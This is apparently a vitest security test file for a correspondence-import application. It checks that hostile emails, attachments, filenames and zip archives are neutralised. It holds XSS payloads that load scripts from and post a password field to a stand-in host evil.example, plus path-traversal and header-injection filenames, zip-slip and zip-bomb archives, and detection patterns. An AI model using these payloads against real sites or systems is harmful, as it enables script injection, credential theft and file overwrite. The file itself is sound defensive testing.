/** What arrives from outside and means harm: messages, pages, pictures, zips and the names of files. */
import { createWriteStream } from 'node:fs'
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { finished } from 'node:stream/promises'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { ZipFile } from 'yazl'
import { importPaths } from '../../src/correspondence/import.ts'
import { recordSink } from '../../src/correspondence/sink.ts'
import { day } from '../../src/platform/day.ts'
import { findEntries, findRecord } from '../../src/record/store.ts'
import { testSite, TEST_NOW, type TestSite } from '../../src/test-site.ts'
import { fuzz } from './mutate.ts'
import { chanceFrom } from './running.ts'

let [site, folder, record] = [{} as TestSite, '', '']

beforeAll(async () => {
  site = await testSite()
  record = await site.begin()
  folder = await mkdtemp(join(tmpdir(), 'heard-hostile-'))
})
afterAll(async () => {
  await site.close()
  await rm(folder, { recursive: true, force: true })
})

const OPTIONS = { zone: 'Europe/London', today: day('2026-11-21'), author: 'Alex Ward', threads: 1 }

async function bring(name: string, bytes: string | Uint8Array) {
  const path = join(folder, name)
  await writeFile(path, bytes)
  const who = { accountId: site.account.id, recordId: record, now: () => TEST_NOW }
  return importPaths([path], OPTIONS, recordSink(site.ledger, who))
}

/** The newest entry. */
async function newest() {
  const entries = await site.within(record, async (write) => {
    const { treeSize } = await findRecord(write)
    return findEntries(write, [treeSize])
  })
  const [entry] = entries
  if (entry === undefined) throw new Error('Nothing was brought in.')
  return entry
}

const ATTACKS = [
  '<p>Kind words</p>',
  '<script>pwned()</script><script src=//evil.example/x.js></script>',
  '<img src=x onerror="pwned()"><img src="https://evil.example/track.gif">',
  '<svg onload=pwned()><script>pwned()</script><foreignObject><body onload=pwned()></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></table></math>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=password><button formaction=//evil.example>Go</button></form>',
  '<div style="background:url(https://evil.example/b.png);position:fixed">over everything</div>',
  '<style>@import "https://evil.example/s.css"; body{background:url(//evil.example)}</style>',
  '<link rel=stylesheet href="https://evil.example/s.css"><iframe srcdoc="<script>pwned()</script>"></iframe>',
  '<a href="javascript:pwned()">j</a><a href="jav&#x09;ascript:pwned()">t</a><a href="data:text/html,pwned">d</a>',
  '<object data="https://evil.example/o"></object><embed src="//evil.example/e"><video poster=//evil.example/p>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
  '<textarea></textarea><img src=x onerror=pwned()></textarea><template><img onerror=pwned()></template>',
].join('\n')

describe('a message with scripts in it', () => {
  test('shows its words, and nothing in it runs, loads, posts or covers the page', async () => {
    const head =
      'From: A <a@b.example>\nTo: c@d.example\nSubject: <img src=x onerror=pwned()>\nDate: Mon, 28 Sep 2026 09:00:00 +0100\nMessage-ID: <1@b.example>\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n'
    expect(await bring('attack.eml', head + ATTACKS)).toMatchObject({ added: 1 })
    const { address } = await newest()
    for (const path of ['', '/as-sent']) {
      const response = await site.get(`/records/${record}/entries/${address}${path}`)
      const page = await response.text()
      expect(page).toContain('Kind words')
      // Tags only: shown as text, an attack is only words.
      const tags = [...page.matchAll(/<[^>]*>/g)].map(([tag]) => tag).join('\n')
      expect(tags).not.toMatch(/pwned|evil\.example|\son\w+\s*=|javascript:|http-equiv="?refresh/i)
      expect(tags).not.toMatch(/<(?:iframe|object|embed|base|style|math|video|template)/i)
      expect(tags).not.toMatch(/\sstyle=/i)
      const policy = response.headers.get('content-security-policy')
      expect(policy).toContain("default-src 'none'")
      expect(policy).not.toContain('unsafe')
    }
  })

  test.each([
    ['page.html', '<!doctype html><script>pwned()</script>'],
    ['picture.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>'],
    [
      'paper.xml',
      '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script/></html>',
    ],
    ['picture.png', '<html><script>pwned()</script></html>'],
    ['words.txt', 'Only words.'],
  ])('%s is only ever handed out to be saved', async (name, text) => {
    await bring(name, text)
    const { address } = await newest()
    const { status, headers } = await site.get(`/records/${record}/entries/${address}/files/0`)
    expect(status).toBe(200)
    expect(headers.get('content-disposition')).toMatch(/^attachment;/)
    expect(headers.get('x-content-type-options')).toBe('nosniff')
    expect(headers.get('content-security-policy')).toContain('sandbox')
    expect(headers.get('content-type')).toMatch(/^(?:application\/octet-stream|text\/plain)/)
  })
})

describe('names that reach elsewhere', () => {
  const NAMES = [
    '../../../etc/cron.d/heard',
    '..\\..\\windows\\system32\\x.dll',
    '/etc/passwd',
    'C:\\x.exe',
    'a\r\nSet-Cookie: heard-session=x',
    'invoice\u202Efdp.exe',
    '..',
    '.',
    'n'.repeat(5000),
    '"; filename="x.html',
    'naïve 🎒.txt',
  ]

  test.each(NAMES)('%j is only a name', async (name) => {
    const encoded = encodeURIComponent(name).replaceAll(/['()*]/g, '_')
    const message = `From: a@b.example\nSubject: Names\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nWords about ${encoded.slice(0, 60)}\n--b\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename*=UTF-8''${encoded}\n\nbytes\n--b--\n`
    await bring('names.eml', message)
    const { address, files } = await newest()
    const kept = files.at(-1)?.name ?? ''
    expect(kept).not.toMatch(/[/\\\p{Cc}\u202E]|^\.{0,2}$/u)
    expect(kept.length).toBeLessThanOrEqual(200)
    const { headers } = await site.get(
      `/records/${record}/entries/${address}/files/${files.length - 1}`,
    )
    expect(headers.get('set-cookie')).toBeNull()
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="[\w.-]+"; filename\*=UTF-8''[\w.%!~-]+$/,
    )
  })
})

async function zipped(name: string, fill: (zip: ZipFile) => void): Promise<Buffer> {
  const zip = new ZipFile()
  fill(zip)
  zip.end()
  const path = join(folder, name)
  await finished(zip.outputStream.pipe(createWriteStream(path)))
  return readFile(path)
}

/** `bytes` with every `from` made the text `to`, which is as long. */
function patched(bytes: Buffer, from: string, to: string): Buffer {
  return Buffer.from(bytes.toString('latin1').replaceAll(from, to), 'latin1')
}

function zeros(size: number): Readable {
  const piece = Buffer.alloc(1024 * 1024)
  return Readable.from(
    (function* pieces() {
      for (let given = 0; given < size; given += piece.length) yield piece
    })(),
  )
}

describe('zips', () => {
  test('a name that climbs out is only a name', async () => {
    const honest = await zipped('climb.zip', (zip) =>
      zip.addBuffer(Buffer.from('climbed out'), 'xx/xx/xx/climbed.txt'),
    )
    const climbing = patched(honest, 'xx/xx/xx/climbed.txt', '../../../climbed.txt')
    expect(await bring('climb.zip', climbing)).toMatchObject({ added: 1 })
    expect((await newest()).files[0]?.name).toBe('climbed.txt')
    expect(await readdir(tmpdir())).not.toContain('climbed.txt')
  })

  test('one that would fill the disk is left alone, and the rest goes on', async () => {
    const bomb = await zipped('bomb.zip', (zip) => {
      zip.addBuffer(Buffer.from('a kind word'), 'first.txt')
      for (const name of ['a', 'b', 'c']) zip.addReadStream(zeros(64 * 1024 * 1024), `${name}.txt`)
    })
    const { added, unreadable } = await bring('bomb.zip', bomb)
    expect(added).toBe(1)
    expect(unreadable.map(({ reason }) => reason)).toEqual([expect.stringContaining('far more')])
  })

  test('one that lies about its sizes is not believed', async () => {
    const honest = await zipped('lies.zip', (zip) =>
      zip.addBuffer(Buffer.alloc(1_000_000, 'w'), 'large.txt'),
    )
    // The size in the central directory: 24 bytes after its signature, little end first.
    const at = honest.lastIndexOf(Buffer.from('PK\u0001\u0002', 'latin1'))
    honest.writeUInt32LE(10, at + 24)
    const { added, unreadable } = await bring('lies.zip', honest)
    expect(added).toBe(0)
    expect(unreadable).toHaveLength(1)
  })

  test('a zip in a zip in a zip is left for the person to unpack', async () => {
    const inner = await zipped('i.zip', (zip) => zip.addBuffer(Buffer.from('x'), 'x.txt'))
    const middle = await zipped('m.zip', (zip) => zip.addBuffer(inner, 'inner.zip'))
    const outer = await zipped('o.zip', (zip) => zip.addBuffer(middle, 'middle.zip'))
    const { added, unreadable } = await bring('outer.zip', outer)
    expect({ added, reasons: unreadable.map(({ reason }) => reason) }).toEqual({
      added: 0,
      reasons: [expect.stringContaining('zip inside a zip')],
    })
  })

  test('one of very many empty things does not stop the rest', async () => {
    const many = await zipped('many.zip', (zip) => {
      for (let at = 0; at < 20_000; at += 1) zip.addEmptyDirectory(`folder${at}`)
      zip.addBuffer(Buffer.from('after all that'), 'after.txt')
    })
    expect(await bring('many.zip', many)).toMatchObject({ added: 1, unreadable: [] })
  })
})

test('two hundred messages that chance has bent are read or refused, and never thrown at us', async () => {
  const { read, refused, thrown } = await fuzz(200, chanceFrom(7))
  expect(thrown).toEqual([])
  expect(read + refused).toBe(200)
  expect(read).toBeGreaterThan(0)
})

test('characters a database cannot hold, in addresses and forms, are no mistake of ours', async () => {
  for (const path of [
    `/records/${record}/timeline?search=a%00b`,
    `/records/${record}/timeline?person=%ED%A0%80%00`,
  ])
    expect((await site.get(path)).status).toBeLessThan(500)
  for (const name of ['Ro\0bin', '\uD800'])
    expect((await site.post('/records', { name })).status).toBeLessThan(500)
})
